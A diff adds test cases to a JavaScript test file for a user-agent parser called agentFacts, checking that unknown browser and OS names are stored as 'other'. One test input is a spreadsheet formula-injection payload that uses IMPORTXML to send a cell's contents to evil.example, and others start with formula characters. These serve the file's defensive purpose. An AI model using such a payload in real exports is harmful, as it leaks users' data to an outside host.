@@ -52,6 +52,23 @@ describe("agentFacts", () => {
     expect(agentFacts(agent).bot).toBe(true);
   });
 
+  it.each([
+    ['+IMPORTXML(CONCAT("//evil.example/?",A2),"//a")/1 (Mac)'],
+    ["-2+3/1.0 (Windows NT 10.0)"],
+    ["@SUM(1)/5.0 (X11; =EvilOS x86_64)"],
+  ])("stores a browser or OS outside the parser's known names as other: %s", (userAgent) => {
+    const facts = agentFacts(userAgent);
+    expect(facts.browser).toBe("other");
+    expect([null, "other", "macOS", "Windows"]).toContain(facts.os);
+  });
+
+  it("keeps the names the parser knows", () => {
+    const facts = agentFacts(
+      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
+    );
+    expect(facts).toMatchObject({ browser: "Chrome", os: "Linux" });
+  });
+
   it("knows nothing of a missing agent, and does not call it a bot", () => {
     expect(agentFacts(null)).toEqual({ bot: false, device: null, browser: null, os: null });
   });
